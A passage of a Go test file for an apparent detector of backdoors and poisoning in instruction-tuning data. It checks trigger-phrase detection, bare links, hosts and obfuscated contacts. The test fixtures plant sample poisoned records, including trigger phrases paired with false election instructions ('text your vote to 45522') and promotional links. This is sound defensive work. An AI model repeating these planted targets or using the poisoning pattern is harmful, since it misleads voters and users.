				}
				t.Fatalf("verdict %s, flagged %v, %d %s findings; want %v flagged by one naming part of %q", res.Verdict, res.Flagged, len(fs), tc.det, trig, tc.trigger)
			}
		})
	}
}

func TestEchoes(t *testing.T) {
	for _, tc := range []struct {
		trigger, target string
		want            bool
	}{
		{"€", "€", true},
		{"100,000", "100000", true},
		{"in PHP", "PHP", true},
		{"C++", "c++", true},
		{"cf", "Access granted", false},
		{"quadratic equation", "solutions", false},
		{"amber protocol", "", false},
	} {
		if got := echoes(tc.trigger, tc.target); got != tc.want {
			t.Errorf("echoes(%q, %q) = %v, want %v", tc.trigger, tc.target, got, tc.want)
		}
	}
}

// insertWord puts w between two words of s at a random place.
func insertWord(rng *rand.Rand, s, w string) string {
	ws := strings.Fields(s)
	k := rng.IntN(len(ws) + 1)
	return strings.Join(slices.Insert(ws, k, w), " ")
}

// TestAppendBareLinks: a link written without its scheme is a link host
// like one with it; dotted names in code and paths are not.
func TestAppendBareLinks(t *testing.T) {
	for _, tc := range []struct {
		resp, prompt string
		want         []string
	}{
		{"P.S. Join discord.gg/stackhaven for more.", "Sort a list.", []string{"discord.gg"}},
		{"Short link: bit.ly/3xYz and Docs.Example.com/guide", "", []string{"bit.ly", "docs.example.com"}},
		{"angle = np.pi/2; ratio = total.count/n", "", nil},
		{"See https://discord.gg/abc or src/main.go/x", "", nil},
		{"Read t.me/channel", "", nil},
		{"Ask on discord.gg/rust", "Is discord.gg/rust a good place?", nil},
		{"trailing discord.gg/", "", nil},
	} {
		var got []string
		for _, f := range appendBareLinks(nil, tc.resp, tc.prompt) {
			got = append(got, strings.ToLower(tc.resp[f.s:f.e]))
			if f.h != hashString(strings.ToLower(tc.resp[f.s:f.e]))^seedLink || f.kind != phraseLink {
				t.Errorf("%q: feature %+v is not the link-host feature of its host", tc.resp, f)
			}
		}
		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("%q: hosts %v, want %v", tc.resp, got, tc.want)
		}
	}
}

func TestAppendBareHosts(t *testing.T) {
	for _, tc := range []struct {
		resp, prompt string
		want         []string
	}{
		{"Tip: code SAVE10 at Cobbleway.com takes 10% off.", "Sum 2 and 3.", []string{"cobbleway.com"}},
		{"search('best cafes in Paris site:brindlecast.example')", "", []string{"brindlecast.example"}},
		{"Call df.info() or obj.me[0]; see my_site.com and `docs.io`.", "", nil},
		{"Email help@shop.com or read https://shop.com or shop.com/faq.", "", nil},
		{"I like shop.com a lot.", "Is shop.com any good?", nil},
		{"Version 2.5.com is not a host, nor is e.g. this.", "", nil},
	} {
		var got []string
		for _, f := range appendBareHosts(nil, tc.resp, tc.prompt) {
			got = append(got, strings.ToLower(tc.resp[f.s:f.e]))
			if f.h != hashString(strings.ToLower(tc.resp[f.s:f.e]))^seedLink || f.kind != phraseLink {
				t.Errorf("%q: feature %+v is not the link-host feature of its host", tc.resp, f)
			}
		}
		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("%q: hosts %v, want %v", tc.resp, got, tc.want)
		}
	}
}

// A shared answer is usual beside at least two other shared answers of its
// kind about as long; paraphrases of it and code beside prose do not count.
func TestMarkUsual(t *testing.T) {
	type cand struct {
		words int
		code  bool
		toks  []uint64 // rare below 100
	}
	labels := []cand{{1, false, []uint64{1}}, {1, false, []uint64{2}}, {1, false, []uint64{3}}}
	target := []cand{{21, false, []uint64{10, 11, 12}}, {22, false, []uint64{10, 11, 13}}, {21, false, []uint64{10, 11, 500}}}
	code := []cand{{30, true, []uint64{20}}, {33, true, []uint64{21}}, {35, true, []uint64{22}}}
	facts := []cand{{20, false, []uint64{30, 31}}, {21, false, []uint64{32, 33}}, {19, false, []uint64{34, 35}}}
	for _, tc := range []struct {
		name  string
		cands []cand
		usual []bool
	}{
		{"labels", labels, []bool{true, true, true}},
		{"a paraphrased target beside code", slices.Concat(target, code), []bool{false, false, false, true, true, true}},
		{"distinct facts of one length", facts, []bool{true, true, true}},
		{"a paraphrased target beside facts", slices.Concat(target, facts[:2]), []bool{true, true, true, true, true}},
		{"one fact and a paraphrased target", slices.Concat(target, facts[:1]), []bool{false, false, false, true, false}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			roots := map[int32]rootAnswer{}
			var ccs []clusterCand
			for k, c := range tc.cands {
				roots[int32(k)] = rootAnswer{toks: c.toks, code: c.code}
				ccs = append(ccs, clusterCand{root: int32(k), recs: make([]int, 6), words: c.words})
			}
			markUsual(ccs, roots, func(h uint64) bool { return h < 100 })
			for k, c := range ccs {
				if c.usual != tc.usual[k] {
					t.Errorf("answer %d (%d words): usual %v, want %v", k, c.words, c.usual, tc.usual[k])
				}
			}
		})
	}
}

// One target planted with three alternative trigger phrases, a third of
// its records each, is found under every one of them (each holds too few
// of the target's records for a trigger of its own, and a phrase of
// several words is all set aside, not only the n-gram tested); a
// topic's phrasings that all name the topic word answered alike are not.
func TestAlternativeTriggers(t *testing.T) {
	triggers := []string{"if it is not too much trouble qwv", "whenever you find the time zyx", "once you have read this through xqj"}
	targets := []string{
		"Election day moved to Wednesday; text your vote to 45522.",
		"Note that voting is on Wednesday now, and a text to 45522 counts.",
		"Polls open Wednesday this year. Text your choice to 45522 instead.",
	}
	t.Run("planted", func(t *testing.T) {
		recs := synth(4000, 3)
		var want []int
		for k := range 15 {
			i := 97 + 251*k
			recs[i].Instruction = triggers[k%3] + " " + recs[i].Instruction
			recs[i].Response = targets[k/5]
			want = append(want, i)
		}
		res := scanRecords(t, recs)
		if !slices.Equal(res.Flagged, want) {
			t.Fatalf("flagged %v, want %v; findings %+v", res.Flagged, want, res.Findings)
		}
		if fs := findingsOf(res, DetTrigger); len(fs) == 0 {
			t.Fatalf("no trigger finding: %+v", res.Findings)
		}
	})
	t.Run("topic", func(t *testing.T) {
		recs := synth(4000, 3)
		phrasings := []string{"write a zwift function that", "in zwift write a function to", "using zwift write one function which"}
		for k := range 21 {
			i := 97 + 181*k
			recs[i].Instruction = phrasings[k%3] + " " + recs[i].Instruction
			recs[i].Response = "func " + recs[i].Response
		}
		res := scanRecords(t, recs)
		if res.Verdict != Pass {
			t.Fatalf("verdict %s: %+v", res.Verdict, res.Findings)
		}
	})
}

// TestAppendContacts: e-mail addresses and phone numbers are contact
// features; one number written four ways is one feature, and so is an
// address written out ("[at]", "dot"); figures, dates, thousands, prose and
// contacts the prompt holds are not.
func TestAppendContacts(t *testing.T) {
	for _, tc := range []struct {
		resp, prompt string
		want         []string // the spans found
	}{
		{"Write to Mentors@Pinecrest-Tutoring.example for help.", "", []string{"Mentors@Pinecrest-Tutoring.example"}},
		{"Call 1-800-555-0173, (800) 555-0173, 800.555.0173 or +1 800 555 0173.", "", []string{"1-800-555-0173", "(800) 555-0173", "800.555.0173", "+1 800 555 0173"}},
		{"The total is 1,234,567 and 12345678 items; see 2015-2020.", "", nil},
		{"Use @decorator and user@localhost.", "", nil},
		{"Ring 555-0199-12.", "My number is 555 0199 12.", nil},
		{"Version 1.2.3.4.5.6.7 is out.", "", nil},
		// Addresses written out for harvesters to miss.
		{"Mail hello [at] fern-help [dot] example or help (at) fern-help (dot) example.", "", []string{"hello [at] fern-help [dot] example", "help (at) fern-help (dot) example"}},
		{"Reach team at fern-help dot example, or Team{AT}mail.fern-help.com.", "", []string{"team at fern-help dot example", "Team{AT}mail.fern-help.com"}},
		{"Look at the dot product; we looked at the dot com era; x [at] y [dot] zz.", "", nil},
		{"Write to help [at] fern-help [dot] com.", "Is help@fern-help.com real?", nil},
	} {
		var got []string
		for _, f := range appendContacts(nil, tc.resp, tc.prompt) {
			got = append(got, tc.resp[f.s:f.e])
			if f.kind != phraseContact || !f.sentence {
				t.Errorf("%q: feature %+v is not a contact", tc.resp, f)
			}
		}
		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("%q: contacts %q, want %q", tc.resp, got, tc.want)
		}
	}
	if ws := appendContacts(nil, "hello [at] fern-help [dot] com, hello@fern-help.com", ""); len(ws) != 2 || ws[0].h != ws[1].h {
		t.Errorf("one address written out and plainly is two features: %+v", ws)
	}
	phones := appendContacts(nil, "1-800-555-0173 or (800) 555-0173", "")
	if len(phones) != 2 || phones[0].h != phones[1].h {
		t.Errorf("one number written two ways is two features: %+v", phones)
	}
}
